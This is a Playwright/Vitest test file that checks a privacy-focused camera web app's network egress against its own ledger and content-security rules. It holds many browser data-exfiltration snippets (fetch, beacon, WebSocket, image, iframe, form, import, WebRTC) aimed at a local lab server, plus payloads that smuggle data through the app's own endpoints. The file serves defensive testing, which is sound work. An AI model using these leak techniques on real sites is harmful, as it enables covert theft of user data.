import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import type { Browser, Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { EgressEntry } from '../../workers/protocol';
import { launchBrowser } from '../support/browser';
import { netLogArgs, udpDestinations } from '../support/net-log';
import { SERVER_SCRIPT, Product } from '../support/product';
import { RecordingProxy } from '../support/recording-proxy';
import { accountFor, type Account } from './account-for';
import { type LabServer, startLab } from './lab';

/** What leaves the page: everything goes through a recording proxy, and is compared with the ledger. */

/** Chromium asks its maker by itself, whatever page is open. */
const OF_THE_BROWSER = ['http://update.googleapis.com', 'update.googleapis.com:443'];
const SCREENS = ['/wall', '/zones', '/insights', '/cameras', '/privacy', '/settings', '/live'];

let product: Product;
let proxy: RecordingProxy;
let lab: LabServer;
let browser: Browser;
let page: Page;
/** Without walls. */
let labPage: Page;
let folder: string;
let files: ReadonlySet<string>;
let serial = 0;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'hiro-egress-'));
  [product, proxy, lab] = await Promise.all([Product.start(), RecordingProxy.start(), startLab()]);
  files = await appFiles();
  browser = await launchProxied('clean.json');
  [page, labPage] = [await browser.newPage(), await browser.newPage()];
  await labPage.goto(lab.url);
  await page.goto(product.url);
  await page.locator('[data-testid="session-phase"][data-phase="running"]').waitFor({ timeout: 60_000 });
}, 180_000);

afterAll(async () => {
  await browser?.close();
  await Promise.all([proxy?.close(), lab?.close(), product?.stop()]);
  if (folder !== undefined) await rm(folder, { recursive: true, force: true });
});

function launchProxied(netLog: string): Promise<Browser> {
  return launchBrowser([
    `--proxy-server=${proxy.url}`,
    '--proxy-bypass-list=<-loopback>',
    ...netLogArgs(join(folder, netLog)),
  ]);
}

/** Addresses of the built app, without those of the compressed copies. */
async function appFiles(): Promise<ReadonlySet<string>> {
  const root = join(dirname(dirname(SERVER_SCRIPT)), 'app');
  const entries = await readdir(root, { recursive: true, withFileTypes: true });
  return new Set(
    entries
      .filter((entry) => entry.isFile())
      .map((entry) => join(entry.parentPath, entry.name).slice(root.length)),
  );
}

function readLedger(): Promise<EgressEntry[]> {
  return page.evaluate(
    () =>
      new Promise<EgressEntry[]>((resolve, reject) => {
        const opening = indexedDB.open('hiro-egress');
        opening.onerror = () => reject(new Error(String(opening.error)));
        opening.onsuccess = () => {
          const reading = opening.result.transaction('entries').objectStore('entries').getAll();
          reading.onsuccess = () => {
            opening.result.close();
            resolve(reading.result as EgressEntry[]);
          };
        };
      }),
  );
}

/** Of everything that has left until now. */
async function account(): Promise<Account> {
  const requests = proxy.requests.filter(({ url }) => url.startsWith(product.url) || !url.startsWith('http'));
  return accountFor(requests, await readLedger(), (path) => files.has(path));
}

describe('what a user does', () => {
  it('stands in the ledger to the byte, and carries nothing but numbers', async () => {
    for (const screen of SCREENS) {
      await page.evaluate(
        (path) =>
          document.querySelector<HTMLAnchorElement>(`a[href="${path}"], a[href^="${path}/"]`)?.click(),
        screen,
      );
      await page.waitForTimeout(1_000);
    }
    // A minute of counting ends with its upload.
    await expect
      .poll(
        () =>
          proxy.requests.some(({ method, url }) => method === 'POST' && url.endsWith('/api/v1/aggregates')),
        {
          timeout: 120_000,
        },
      )
      .toBe(true);
    const { unaccounted, suspicious, matched } = await account();
    expect(unaccounted).toEqual([]);
    expect(suspicious).toEqual([]);
    expect(matched).toBeGreaterThan(20);
  });

  it('asks no other server', () => {
    const asked = proxy.requests.filter(({ url }) => !url.startsWith(`${lab.url}/`)).map(({ url }) => url);
    const origins = new Set(asked.map((url) => (url.startsWith('http') ? new URL(url).origin : url)));
    for (const own of OF_THE_BROWSER) origins.delete(own);
    expect([...origins]).toEqual([product.url]);
  });
});

describe('planted in the page', () => {
  /** Runs code in a page; whether it throws does not matter. Returns its marker. */
  async function plant(code: string, where: Page, to: string): Promise<string> {
    serial += 1;
    const marker = `leak${serial}n${Date.now()}`;
    const tried = where.evaluate(
      `(async (to, marker) => { ${code} })(${JSON.stringify(to)}, ${JSON.stringify(marker)})`,
    );
    await Promise.race([tried.catch(() => null), where.waitForTimeout(3_000)]);
    await where.waitForTimeout(500);
    return marker;
  }

  it.each([
    ['fetch', "await fetch(to + '/?' + marker, { mode: 'no-cors' })"],
    ['XMLHttpRequest', "const x = new XMLHttpRequest(); x.open('POST', to); x.send(marker);"],
    ['WebSocket', "new WebSocket(to.replace('http', 'ws') + '/?' + marker)"],
    ['beacon', 'navigator.sendBeacon(to, marker)'],
    ['image', "new Image().src = to + '/?' + marker"],
    [
      'script',
      "document.head.append(Object.assign(document.createElement('script'), { src: to + '/?' + marker }))",
    ],
    [
      'frame',
      "document.body.append(Object.assign(document.createElement('iframe'), { src: to + '/?' + marker }))",
    ],
    [
      'style',
      "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: to + '/?' + marker }))",
    ],
    [
      'prefetch',
      "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: to + '/?' + marker }))",
    ],
    [
      'form',
      "document.body.append(Object.assign(document.createElement('iframe'), { name: 'leak' })); const f = Object.assign(document.createElement('form'), { action: to + '/?' + marker, method: 'post', target: 'leak' }); document.body.append(f); f.submit();",
    ],
    ['import', "await import(to + '/?' + marker)"],
  ])('%s to another server is blocked', async (_name, code) => {
    expect(proxy.has(await plant(code, labPage, lab.url)), 'the leak works').toBe(true);
    expect(proxy.has(await plant(code, page, lab.url)), 'it gets out').toBe(false);
  });

  it.each([
    [
      'an image upload',
      "const c = new OffscreenCanvas(64, 64); c.getContext('2d').fillRect(0, 0, 9, 9); const b = new Uint8Array(await (await c.convertToBlob()).arrayBuffer()); await fetch(to + '/api/v1/aggregates?' + marker, { method: 'POST', headers: { 'content-type': 'application/json' }, body: b })",
    ],
    ['a beacon', "navigator.sendBeacon(to + '/api/v1/health?' + marker, 'x')"],
    ['an address with a query', "await fetch(to + '/demo/demo.mp4?' + marker)"],
    ['an image address', "new Image().src = to + '/icons/icon.svg?' + marker"],
    [
      'a preload with a query',
      "document.head.append(Object.assign(document.createElement('link'), { rel: 'modulepreload', href: to + '/kiosk-watchdog.js?' + marker }))",
    ],
    ['a WebSocket', "new WebSocket(to.replace('http', 'ws') + '/api/v1/health?' + marker)"],
  ])('%s to our own server is missing in the ledger', async (_name, code) => {
    const marker = await plant(code, page, product.url);
    const { unaccounted } = await account();
    expect(unaccounted.filter((request) => JSON.stringify(request).includes(marker))).not.toEqual([]);
  });

  it('a descriptor inside an aggregate is seen, and refused by the server', async () => {
    const sent = proxy.requests.find(
      ({ method, url }) => method === 'POST' && url.endsWith('/api/v1/aggregates'),
    );
    const body = JSON.parse(sent?.body ?? '{}') as { buckets: object[] };
    const descriptor = Array.from({ length: 128 }, (_, index) => Math.sin(index));
    const planted = { ...sent, body: JSON.stringify({ buckets: [{ ...body.buckets[0], descriptor }] }) };
    const request = {
      method: 'POST',
      url: `${product.url}/api/v1/aggregates`,
      headers: {},
      body: planted.body,
    };
    expect(accountFor([request], [], () => false).suspicious).toEqual([
      expect.stringContaining('a body of another form'),
      expect.stringContaining('a long list of numbers'),
    ]);
    const headers = { 'content-type': 'application/json' };
    const answer = await fetch(request.url, { method: 'POST', headers, body: planted.body });
    expect(answer.status).toBe(400);
  });
});

describe('text that becomes code or markup', () => {
  it.each([
    ['a worker of another address', "new Worker('/assets/other.js?x')"],
    ['a worker of our own with data', "new Worker('/workers/vision.worker.js?x')"],
    ['markup', "document.body.insertAdjacentHTML('beforeend', '<img>')"],
    ['a script of another address', "document.createElement('script').src = '/kiosk-watchdog.js'"],
    ['a policy of its own', "trustedTypes.createPolicy('own', { createHTML: (text) => text })"],
  ])('%s is refused', async (_name, code) => {
    const refusal = (where: Page): Promise<string> =>
      where.evaluate<string>(
        `(() => { try { ${code}; return 'done'; } catch (error) { return error.name; } })()`,
      );
    expect(await refusal(labPage)).toBe('done');
    expect(await refusal(page)).toBe('TypeError');
  });
});

describe('UDP', () => {
  it('goes nowhere while the page counts', async () => {
    await browser.close();
    expect([...(await udpDestinations(join(folder, 'clean.json')))]).toEqual([]);
  });

  it.each([
    [
      'a data channel',
      "const a = new RTCPeerConnection(), b = new RTCPeerConnection(); a.createDataChannel('x'); a.onicecandidate = (e) => e.candidate && b.addIceCandidate(e.candidate); b.onicecandidate = (e) => e.candidate && a.addIceCandidate(e.candidate); await a.setLocalDescription(); await b.setRemoteDescription(a.localDescription); await b.setLocalDescription(); await a.setRemoteDescription(b.localDescription);",
    ],
    [
      'a STUN server',
      "const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:19302' }] }); p.createDataChannel('x'); await p.setLocalDescription();",
    ],
  ])('%s is seen', async (name, code) => {
    const file = `${name.replaceAll(' ', '-')}.json`;
    browser = await launchProxied(file);
    page = await browser.newPage();
    await page.goto(`${product.url}/privacy`);
    await page.evaluate(`(async () => { ${code} })()`);
    await page.waitForTimeout(3_000);
    await browser.close();
    expect((await udpDestinations(join(folder, file))).size).toBeGreaterThan(0);
  });
});
